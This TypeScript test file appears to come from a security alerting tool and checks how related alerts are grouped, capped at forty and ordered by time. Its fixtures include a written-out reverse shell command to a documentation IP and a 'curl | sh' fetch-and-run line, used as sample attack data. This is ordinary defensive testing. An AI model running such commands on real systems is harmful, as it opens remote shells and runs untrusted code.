import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { alertFrom } from "#alert/facts.fixture.ts";
import { readFacts } from "#alert/facts.ts";
import { parseTime } from "#alert/time.ts";
import type { Alert } from "#domain/alert.ts";
import { relatedOf } from "./related.ts";

const own = alertFrom({ _rule: "Own", "proc.cmdline": "bash -c check", "container.id": "4f2b8c1d9e07" });
const atNs = parseTime(own.time)?.ns ?? 0n;

function neighbour(seconds: number, fields: Parameters<typeof alertFrom>[0]): Alert {
  const time = new Date(Number(atNs / 1_000_000n) + seconds * 1000).toISOString();
  return { ...alertFrom({ _rule: "Other", "container.id": "4f2b8c1d9e07", ...fields }), time };
}

const related = (neighbours: readonly Alert[]) => relatedOf(readFacts(own), atNs, neighbours).related;

describe("what belongs to an alert", () => {
  it("stands there once with its number, at its nearest, in the order of time", () => {
    const found = related([
      neighbour(60, { "proc.cmdline": "id" }),
      neighbour(20, { "proc.cmdline": "id" }),
      neighbour(-30, { "proc.cmdline": "uname -a" }),
    ]);
    assert.deepEqual(
      found.map(({ alert, times, offsetMs }) => [
        alert.output_fields["proc.cmdline"],
        times,
        Math.round(offsetMs / 1000),
      ]),
      [
        ["uname -a", 1, -30],
        ["id", 2, 20],
      ],
    );
  });

  it("is at most forty, the closest first", () => {
    const crowd = Array.from({ length: 200 }, (_, turn) =>
      neighbour(1 + turn, { "proc.cmdline": `on host ${turn}`, "container.id": "host" }),
    );
    const found = related([...crowd, neighbour(600, { "proc.cmdline": "in the container" })]);
    assert.equal(found.length, 40);
    assert.equal(found.filter(({ relation }) => relation === "container").length, 1);
  });

  it("shows an attack whatever many harmless alerts are nearer", () => {
    const crowd = Array.from({ length: 600 }, (_, turn) =>
      neighbour(-turn / 10, { _rule: "Noise", "proc.cmdline": `true ${turn}` }),
    );
    const attack = neighbour(-300, {
      _rule: "Reverse shell",
      "proc.cmdline": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    });
    const { related: found, leftOut } = relatedOf(readFacts(own), atNs, [...crowd, attack]);
    assert.equal(found.length, 40);
    assert.equal(leftOut, 561);
    assert.ok(found.some(({ alert }) => alert.rule === "Reverse shell"));
  });

  it("has the rule's other deeds and not the alert's own repeats", () => {
    const found = related([
      neighbour(0, { _rule: "Own", "proc.cmdline": "bash -c check" }),
      neighbour(5, { _rule: "Own", "proc.cmdline": "bash -c curl x | sh" }),
    ]);
    assert.deepEqual(
      found.map(({ alert }) => alert.output_fields["proc.cmdline"]),
      ["bash -c curl x | sh"],
    );
  });

  it("keeps one command on two files, and two requests, apart", () => {
    const found = related([
      neighbour(1, { "proc.cmdline": "bash", "fd.name": "/etc/motd", "evt.type": "openat" }),
      neighbour(2, { "proc.cmdline": "bash", "fd.name": "/etc/ld.so.preload", "evt.type": "openat" }),
      neighbour(3, { _source: "k8s_audit", "container.id": "<NA>", "ka.uri.param[command]": "df" }),
      neighbour(4, { _source: "k8s_audit", "container.id": "<NA>", "ka.uri.param[command]": "sh" }),
    ]);
    assert.equal(found.length, 4);
  });
});
